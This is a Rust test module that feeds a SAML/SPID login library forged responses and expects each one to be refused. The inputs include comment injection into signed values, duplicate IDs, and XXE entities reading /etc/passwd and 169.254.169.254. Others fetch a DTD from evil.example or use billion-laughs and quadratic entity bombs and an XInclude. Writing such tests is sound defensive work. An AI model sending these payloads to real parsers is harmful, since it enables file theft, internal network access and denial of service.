//! Tricks with markup: comments, instructions, IDs, entities, document types, encodings, bombs. Where
//! a trick leaves the signature good (canonicalisation drops comments, resolves entities), the
//! document is one that was well and truly signed.

use super::Attack;
use super::forge::{original, response};
use crate::support::{Draft, swap};
use sportello_identity::saml::SignatureError;
use sportello_identity::saml::XmlError as X;
use sportello_identity::spid::{At, Refusal};

const CODE: &str = "RSSMRA80A01H501U";

/// The good answer, both signed.
fn good() -> String {
    Draft::default().build()
}

/// The good answer, the assertion signed alone.
fn alone() -> String {
    response(&original())
}

pub(super) fn attacks() -> Vec<Attack> {
    [comments(), ids(), entities()].into_iter().flatten().collect()
}

/// Splits text in two halves with this between them.
fn split(text: &str, between: &str) -> String {
    let (head, tail) = text.split_at(text.len() / 2);
    format!("{head}{between}{tail}")
}

fn comments() -> Vec<Attack> {
    let mut attacks = Vec::new();
    let values = [
        ("the fiscal code", CODE),
        ("the name", "Niccolò"),
        ("the subject", "_subject"),
        ("the issuer", ">https://idp.example<"),
        (
            "the audience",
            "https://sportello.comune.borgoverde.example</saml:Audience>",
        ),
        ("the level", "https://www.spid.gov.it/SpidL2"),
    ];
    for (place, value) in values {
        let inside = split(value, "<!-- -->");
        for (variant, document) in [("both signed", good()), ("assertion signed", alone())] {
            attacks.push(Attack::new(
                "Comment injection",
                "a comment inside a signed value",
                format!("{place}, {variant}"),
                swap(&document, value, &inside),
                X::CommentInText,
            ));
        }
    }
    for (variant, from, to) in [
        ("before the fiscal code", ">TINIT-", "><!-- -->TINIT-"),
        ("after the fiscal code", "H501U<", "H501U<!-- --><"),
        ("instead of a value", ">09999<", "><!--09999--><"),
        ("in the digest", "<ds:DigestValue>", "<ds:DigestValue><!-- -->"),
        (
            "in the signature's value",
            "<ds:SignatureValue>",
            "<ds:SignatureValue><!-- -->",
        ),
        (
            "in the certificate",
            "<ds:X509Certificate>",
            "<ds:X509Certificate><!-- -->",
        ),
    ] {
        attacks.push(Attack::new(
            "Comment injection",
            "a comment at the edge of a value",
            variant,
            swap(&good(), from, to),
            X::CommentInText,
        ));
    }
    for (variant, instruction) in [
        ("php", "<?php ?>"),
        ("xml-stylesheet", "<?xml-stylesheet href='x.xsl'?>"),
    ] {
        attacks.push(Attack::new(
            "Comment injection",
            "a processing instruction inside a value",
            variant,
            swap(&alone(), CODE, &split(CODE, instruction)),
            X::ProcessingInstruction,
        ));
    }
    attacks.push(Attack::new(
        "Comment injection",
        "a processing instruction before the document",
        "xml-stylesheet",
        format!("<?xml-stylesheet href='x.xsl' type='text/xsl'?>{}", good()),
        X::ProcessingInstruction,
    ));
    attacks
}

fn ids() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for (variant, attribute) in [
        ("ID", r#"ID="_assertion""#),
        ("xml:id", r#"xml:id="_assertion""#),
        ("Id, as XML signatures have it", r#"Id="_assertion""#),
        ("ID by a character reference", r#"ID="&#95;assertion""#),
    ] {
        attacks.push(Attack::new(
            "Duplicate IDs",
            "an ID twice, on something that is no assertion",
            variant,
            swap(&alone(), "<samlp:Status>", &format!("<samlp:Status {attribute}>")),
            Refusal::Ids,
        ));
    }
    let twice = swap(
        &alone(),
        "<ds:Signature xmlns",
        r#"<ds:Signature Id="_assertion" xmlns"#,
    );
    attacks.push(Attack::new(
        "Duplicate IDs",
        "the signature's Id is the assertion's ID",
        "",
        twice,
        Refusal::Ids,
    ));
    attacks.push(Attack::new(
        "Duplicate IDs",
        "response and assertion have one ID",
        "",
        swap(&alone(), r#"ID="_response""#, r#"ID="_assertion""#),
        Refusal::Ids,
    ));
    for (variant, id) in [
        ("empty", ""),
        ("blank", " "),
        ("a colon", "a:b"),
        ("a digit first", "1a"),
        ("markup", "a&lt;b"),
    ] {
        attacks.push(Attack::new(
            "Duplicate IDs",
            "an ID that is none",
            variant,
            swap(&alone(), r#"ID="_response""#, &format!(r#"ID="{id}""#)),
            Refusal::Ids,
        ));
    }
    attacks.push(Attack::new(
        "Duplicate IDs",
        "two attributes of one name",
        "ID",
        swap(&alone(), r#"ID="_assertion""#, r#"ID="_assertion" ID="_other""#),
        X::DuplicateAttribute,
    ));
    attacks
}

fn entities() -> Vec<Attack> {
    let typed = |subset: &str, document: String| format!("<!DOCTYPE Response {subset}>{document}");
    let value = || swap(&good(), CODE, "&a;");
    let mut attacks = Vec::new();
    for (member, variant, document) in [
        ("a document type", "empty", typed("", good())),
        (
            "a document type",
            "from a file",
            typed("SYSTEM \"file:///etc/passwd\"", good()),
        ),
        (
            "a document type",
            "from an address",
            typed("PUBLIC \"-//x\" \"https://evil.example/x.dtd\"", good()),
        ),
        (
            "a document type",
            "inside the document",
            good().replace("<samlp:Status>", "<!DOCTYPE x><samlp:Status>"),
        ),
        (
            "a document type that gives defaults",
            "a second ID",
            typed("[<!ATTLIST saml:Subject ID CDATA \"_assertion\">]", good()),
        ),
        (
            "a document type that gives defaults",
            "attributes that are IDs",
            typed("[<!ATTLIST samlp:Status Kind ID #IMPLIED>]", good()),
        ),
        (
            "an internal entity for a signed value",
            "resolved to the same text",
            typed(&format!("[<!ENTITY a \"{CODE}\">]"), value()),
        ),
        (
            "an external entity (XXE)",
            "a file",
            typed("[<!ENTITY a SYSTEM \"file:///etc/passwd\">]", value()),
        ),
        (
            "an external entity (XXE)",
            "an address",
            typed("[<!ENTITY a SYSTEM \"http://169.254.169.254/\">]", value()),
        ),
        (
            "a parameter entity",
            "an address",
            typed("[<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]", good()),
        ),
        (
            "an entity bomb",
            "a billion laughs",
            typed(
                "[<!ENTITY l \"lol\"><!ENTITY m \"&l;&l;&l;&l;&l;&l;&l;&l;\"><!ENTITY a \"&m;&m;&m;&m;&m;&m;&m;&m;\">]",
                value(),
            ),
        ),
        (
            "an entity bomb",
            "quadratic",
            typed(
                &format!("[<!ENTITY a \"{}\">]", "a".repeat(10_000)),
                swap(&good(), CODE, &"&a;".repeat(200)),
            ),
        ),
    ] {
        attacks.push(Attack::new(
            "Document types and entities",
            member,
            variant,
            document,
            X::Doctype,
        ));
    }
    attacks.push(Attack::new(
        "Document types and entities",
        "an entity that nobody declared",
        "in a value",
        value(),
        X::Entity,
    ));
    attacks.push(Attack::new(
        "Document types and entities",
        "an entity that nobody declared",
        "in an attribute",
        swap(&good(), r#"Version="2.0""#, r#"Version="&two;""#),
        X::Entity,
    ));
    for (variant, reference) in [
        ("zero", "&#0;"),
        ("a control", "&#x1F;"),
        ("a surrogate", "&#xD800;"),
        ("beyond", "&#x110000;"),
    ] {
        attacks.push(Attack::new(
            "Document types and entities",
            "a reference to no character",
            variant,
            swap(&good(), "Niccolò", reference),
            X::Malformed,
        ));
    }
    attacks.push(Attack::new(
        "Document types and entities",
        "an inclusion (XInclude) in a signed value",
        "a file",
        swap(&alone(), CODE, r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"></xi:include>"#),
        Refusal::Signature(At::Assertion, SignatureError::Invalid),
    ));
    attacks
}
